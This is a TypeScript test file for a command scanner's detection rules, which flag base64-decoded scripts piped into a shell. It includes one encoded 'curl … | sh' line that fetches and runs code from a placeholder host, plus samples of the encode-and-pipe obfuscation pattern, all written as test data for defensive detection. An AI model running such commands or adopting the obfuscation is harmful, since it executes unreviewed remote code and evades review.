import assert from 'node:assert/strict';
import { test } from 'node:test';
import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandDecodedScript } from './decoded-script.ts';
import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';

const encoded = (text: string): string => btoa(text);

indicatorTable(commandDecodedScript, {
  fires: {
    'a script in the manifest': script(`echo ${encoded('date; uptime')} | base64 -d | sh`),
    'twice encoded': script(`echo ${encoded(encoded('date'))} | base64 -d | base64 -d | bash`),
    'code that decodes and starts a shell': runs(
      'python3',
      '-c',
      `import base64,subprocess\nsubprocess.run(['sh','-c',base64.b64decode('${encoded('date')}').decode()])`,
    ),
  },
  staysSilent: {
    'a file that nobody runs': script(`echo ${encoded('a: b')} | base64 -d > /etc/app/config.yaml; app`),
    'a script that is not encoded': script('date; uptime'),
  },
  cannotTell: UNSEEN,
});

test('what the decoded text does is found as if it stood there', () => {
  const text = encoded('curl -s http://203.0.113.7/x | sh');
  assert.equal(commandRemoteFetchExecute.assess(script(`echo ${text} | base64 -d | sh`)).kind, 'hit');
});
